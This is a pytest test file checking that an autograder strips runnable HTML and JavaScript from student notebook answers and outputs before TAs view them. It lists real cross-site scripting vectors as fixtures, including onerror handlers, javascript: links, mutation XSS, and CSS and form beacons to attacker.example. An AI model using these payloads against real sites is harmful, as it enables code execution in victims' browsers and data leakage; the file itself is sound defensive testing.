"""Student HTML made inert in the notebooks formgrader and the feedback show
(autograder/grading/active_content.py): each way a student's answer or output could run
code in a TA's browser, and what must stay."""
import copy
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import (new_code_cell, new_markdown_cell, new_notebook, new_output,
                         new_raw_cell)

from autograder.grading.active_content import NeutraliseActiveContent, _markdown_html
from autograder.grading.graded_course import make_course_root
from autograder.grading.records import OutputPaths

REPO = Path(__file__).resolve().parents[1]
ANSWER = "Saturation **kills** the gradient"
ACTIVE_TAGS = {"script", "iframe", "object", "embed", "style", "svg", "math", "form", "input",
               "base", "meta", "link", "frame", "frameset", "x-foo"}

# Each way a Markdown answer can run code or reach out; the answer text precedes it.
VECTORS = {
    "script": "<script>window.pwned = 1</script>",
    "onerror": '<img src=x onerror="window.pwned = 1">',
    "markdown_javascript_link": "[see here](javascript:window.pwned=1)",
    "html_javascript_link": '<a href="JaVaScRiPt:window.pwned=1">see here</a>',
    "javascript_link_obfuscated": '<a href="jav&#x09;ascript:window.pwned=1">see here</a>',
    "autolink_javascript": "<javascript:window.pwned=1>",
    "data_html_link": '<a href="data:text/html,&lt;script&gt;window.pwned=1&lt;/script&gt;">x</a>',
    "iframe": '<iframe src="https://attacker.example/"></iframe>',
    "object_embed": '<object data="x.swf"></object><embed src="x.swf">',
    "style_tag": "<style>input[value^=a] { background: url(https://attacker.example/a) }</style>",
    "style_attribute": '<p style="background: url(https://attacker.example/seen)">styled</p>',
    "remote_image_beacon": '<img src="https://attacker.example/seen.png">',
    "svg_onload": '<svg onload="window.pwned=1"></svg>',
    "details_ontoggle": '<details open ontoggle="window.pwned=1"><summary>s</summary></details>',
    "custom_element_handler": '<x-foo onmouseover="window.pwned=1">hover</x-foo>',
    "form": '<form action="https://attacker.example/"><input name="q"></form>',
    "base": '<base href="https://attacker.example/">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    "mutation_xss": '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
}


class Elements(HTMLParser):
    """Every start tag and its attributes, as a browser's parser would see them."""

    def __init__(self, text: str):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def active_parts(html: str) -> list:
    parts = []
    for tag, attrs in Elements(html).found:
        if tag in ACTIVE_TAGS:
            parts.append(tag)
        for name, value in attrs.items():
            url = "".join((value or "").split()).lower()
            if name.startswith("on") or name == "style" and "text-align" not in url:
                parts.append(f"{tag} {name}")
            if name in ("href", "src") and not url.startswith(
                    ("http:", "https:", "mailto:", "#", "data:image/")):
                parts.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and not url.startswith("data:image/"):
                parts.append(f"{tag} src={value}")
    return parts


def neutralised(nb):
    nb, _ = NeutraliseActiveContent().preprocess(nb, {})
    return nb


def answer_cell(source: str):
    return new_markdown_cell(source, metadata={"nbgrader": {
        "grade": True, "solution": True, "grade_id": "q1", "points": 2, "schema_version": 3}})


@pytest.mark.parametrize("vector", VECTORS.values(), ids=VECTORS.keys())
def test_a_hostile_answer_is_made_inert_and_its_text_kept(vector):
    assert active_parts(_markdown_html(f"{ANSWER} {vector}")), "the vector must be active as written"
    cell = neutralised(new_notebook(cells=[answer_cell(f"{ANSWER} {vector}")])).cells[0]
    shown = _markdown_html(cell.source)
    assert active_parts(shown) == []
    assert "Saturation <strong>kills</strong> the gradient" in shown
    assert "made this cell inert" in shown  # the TA learns the student tried something
    assert cell.metadata.nbgrader["grade_id"] == "q1"


def test_raw_html_cells_are_made_inert():
    cell = neutralised(new_notebook(cells=[new_raw_cell(
        VECTORS["script"], metadata={"raw_mimetype": "text/html"})])).cells[0]
    assert active_parts(cell.source) == []


def test_cells_without_active_content_stay_byte_for_byte():
    rich = ("# My answer\n\nThe loss is *lower* & a < b, `x <y>`, $a<b$, **bold**\n\n"
            "> quoted\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
            "[docs](https://numpy.org) [above](#My-answer) <mailto:ta@example.com>\n\n"
            "```python\nx = 1 < 2\n\ny = 3\n```\n\n<em>by hand</em> H<sub>2</sub>O<br>\n"
            "![plot](attachment:plot.png)")
    attached = answer_cell(rich)
    attached.attachments = {"plot.png": {"image/png": "iVBORw0KGgo="}}
    notebooks = [nbformat.read(path, as_version=4)
                 for path in sorted((REPO / "release" / "fcnet").glob("*.ipynb"))]
    notebooks.append(new_notebook(cells=[attached, answer_cell("YOUR ANSWER HERE")]))
    for notebook in notebooks:
        assert neutralised(copy.deepcopy(notebook)) == notebook


def display(data: dict, metadata: dict | None = None):
    return new_output("display_data", data=data, metadata=metadata or {})


def test_outputs_keep_what_is_inert_and_lose_what_can_run():
    table = '<table class="dataframe"><tr><th style="text-align: right;">a</th></tr></table>'
    outputs = [
        display({"application/javascript": "window.pwned = 1"}),
        display({"text/html": "<b>hi</b><script>window.pwned = 1</script>",
                 "text/plain": "<IPython.core.display.HTML object>"}),
        display({"text/html": table, "text/plain": "a"}),
        display({"text/markdown": "[x](javascript:window.pwned=1)", "text/plain": "md"}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": "1"},
                 "text/plain": "IntSlider()"}),
        display({"image/svg+xml": "<svg onload='window.pwned = 1'><script>1</script></svg>",
                 "text/plain": "<Figure>"}),
        display({"image/png": "iVBORw0KGgo=", "text/plain": "<Figure>"},
                {"image/png": {"width": "1 onerror=window.pwned=1", "height": 240},
                 "filenames": {"image/png": "x\" onerror=\"window.pwned=1"}}),
        new_output("stream", name="stdout", text="loss 2.30 <script> printed as text\n"),
        new_output("error", ename="ValueError", evalue="bad", traceback=["ValueError: bad"]),
    ]
    nb = new_notebook(cells=[new_code_cell("show()", outputs=copy.deepcopy(outputs))],
                      metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {}}})
    result = neutralised(nb)
    js, html_with_script, clean_table, markdown, widget, svg, png, stream, error = \
        result.cells[0].outputs
    assert js.data == {"text/plain": "[The autograder removed this output: "
                                     "application/javascript can run code in the grader's browser.]"}
    assert html_with_script.data == {"text/plain": "<IPython.core.display.HTML object>"}
    assert clean_table.data == outputs[2].data
    assert markdown.data == {"text/plain": "md"}
    assert widget.data == {"text/plain": "IntSlider()"}
    assert set(svg.data) == {"text/html", "text/plain"}  # an image of itself: inert
    assert svg.data["text/html"].startswith('<img src="data:image/svg+xml;base64,')
    assert png.data == outputs[6].data and png.metadata == {"image/png": {"height": 240}}
    assert (stream, error) == (outputs[7], outputs[8])
    assert "widgets" not in result.metadata
    assert neutralised(copy.deepcopy(result)) == result  # running it again changes nothing


def test_pages_rendered_in_the_graded_folder_are_made_inert_too(tmp_path, monkeypatch):
    """Formgrader and `autograder feedback` render with OUT's config: a notebook graded
    before the autograded copies were neutralised is made inert as it is shown."""
    from nbgrader.apps.baseapp import NbGrader

    make_course_root(OutputPaths(tmp_path), "fcnet")
    monkeypatch.chdir(tmp_path)
    app = NbGrader()  # loads the config as formgrader's extension does
    app.load_config_file()
    hostile = new_notebook(cells=[
        new_markdown_cell(f"{ANSWER} {VECTORS['onerror']} {VECTORS['script']}"),
        new_code_cell("show()", outputs=[display({"application/javascript": "window.pwned=1"})])])
    page, _ = HTMLExporter(config=app.config, template_name="classic").from_notebook_node(hostile)
    assert "window.pwned" not in page.replace("&lt;script&gt;window.pwned = 1", "")
    assert "onerror" not in page and "Saturation <strong>kills</strong> the gradient" in page
